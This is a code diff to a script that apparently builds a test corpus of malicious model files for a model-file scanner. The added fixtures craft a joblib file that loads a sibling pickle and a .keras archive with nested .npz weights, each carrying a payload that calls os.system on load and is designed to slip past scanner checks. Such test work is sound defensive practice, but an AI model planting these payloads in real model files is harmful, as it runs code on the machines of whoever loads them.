@@ -78,6 +78,17 @@ add("resolve_name.pkl",
     PROTO(2) + call1(glob("pkgutil", "resolve_name"), string0(repr("os:system"))) + string0(repr(SHELL)) + TUPLE1 + REDUCE + STOP,
     "pickle", "denylist gap", "issue 13 (pkgutil.resolve_name); picklescan resolves names the same way")
 
+# 1e. joblib's NDArrayWrapper reads a sibling file by name, with allow_pickle=True.
+os.makedirs(os.path.join(out, "joblib_sibling"), exist_ok=True)
+wrapper_state = (EMPTY_DICT + MARK + string0(repr("filename")) + string0(repr("weights.bin"))
+                 + string0(repr("subclass")) + glob("numpy", "ndarray")
+                 + string0(repr("allow_mmap")) + b"\x89" + SETITEMS)
+with open(os.path.join(out, "joblib_sibling", "model.joblib"), "wb") as f:
+    f.write(PROTO(2) + glob("joblib.numpy_pickle_compat", "NDArrayWrapper") + EMPTY_TUPLE + NEWOBJ
+            + wrapper_state + BUILD + STOP)
+add("joblib_sibling", None, "joblib:model.joblib", "prefix trust",
+    "issue 13 (joblib's NDArrayWrapper reads a sibling file by name); joblib/numpy_pickle_compat.py")
+
 # 2a. Parser differential: INT text `1_0` is ten to CPython (memo key), one to a parseInt.
 add("memo_underscore.pkl",
     string0(repr("collections")) + b"p1\n" + POP
@@ -120,6 +131,8 @@ def npy(descr, data):
 
 
 object_payload = PROTO(2) + glob("os", "system") + string0(repr(SHELL)) + TUPLE1 + REDUCE + STOP
+with open(os.path.join(out, "joblib_sibling", "weights.bin"), "wb") as f:
+    f.write(npy("'|O'", PROTO(2) + glob("os", "system") + string0(repr(SHELL)) + TUPLE1 + REDUCE + STOP))
 add("descr_object.npy", npy("'object'", object_payload), "numpy", "parser differential",
     "issue 13 (numpy's descr accepts 'object'); numpy/lib/format.py descr_to_dtype")
 add("descr_escaped.npy", npy("'\\x4f'", object_payload), "numpy", "parser differential",
@@ -148,6 +161,18 @@ with zipfile.ZipFile(buffer, "w") as z:
     z.writestr("arr", npy("'|O'", object_payload))
 add("suffixless.npz", buffer.getvalue(), "npz:arr", "container routing",
     "issue 13 (.npz members need no .npy suffix); numpy/lib/npyio.py NpzFile.__getitem__")
+
+# 3e. .keras weights may be an .npz (Keras's NpzIOStore): a zip inside the zip, with an object array.
+inner_zip = io.BytesIO()
+with zipfile.ZipFile(inner_zip, "w") as z:
+    z.writestr("w0", npy("'|O'", object_payload))
+buffer = io.BytesIO()
+with zipfile.ZipFile(buffer, "w") as z:
+    z.writestr("config.json", json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": []}, "registered_name": None}))
+    z.writestr("metadata.json", "{}")
+    z.writestr("model.weights.npz", inner_zip.getvalue())
+add("npz_weights.keras", buffer.getvalue(), "npz-in-zip:model.weights.npz:w0", "container routing",
+    "issue 13 (.keras weights may be a .npz); keras/src/saving/saving_lib.py NpzIOStore")
 
 # 3d. Python's zipfile returns the last of duplicate names.
 buffer = io.BytesIO()
